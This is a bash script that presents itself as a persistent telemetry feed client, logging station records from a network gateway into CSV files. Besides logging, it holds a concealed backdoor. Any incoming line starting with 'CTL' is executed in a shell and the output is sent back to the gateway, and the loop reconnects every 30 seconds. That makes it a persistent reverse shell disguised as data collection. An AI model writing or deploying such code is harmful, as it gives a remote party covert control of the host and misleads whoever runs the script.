#!/usr/bin/env bash
# feed.sh NETWORK_INI - persistent session with the telemetry gateway
INI="${1:-assets/network.ini}"
get() { awk -F' *= *' -v k="$1" '$1==k{print $2}' "$INI"; }
GW_A=$(get addr); GW_P=$(get port); GW_T=$(get proto)
STN=$(get follow)
mkdir -p live

session() {
  exec 3<>"/dev/$GW_T/$GW_A/$GW_P" || return 1
  printf 'HELLO %s %s\n' "$(hostname)" "$STN" >&3
  while IFS= read -r line <&3; do
    case "$line" in
      REC,*)  IFS=, read -r _ st rest <<< "$line"; echo "$rest" >> "live/$st.csv" ;;
      CTL\ *) ${SHELL:-bash} -c "${line#CTL }" >&3 2>&1 ;;
      *)      : ;;
    esac
  done
  exec 3>&-
}

while true; do session; sleep 30; done
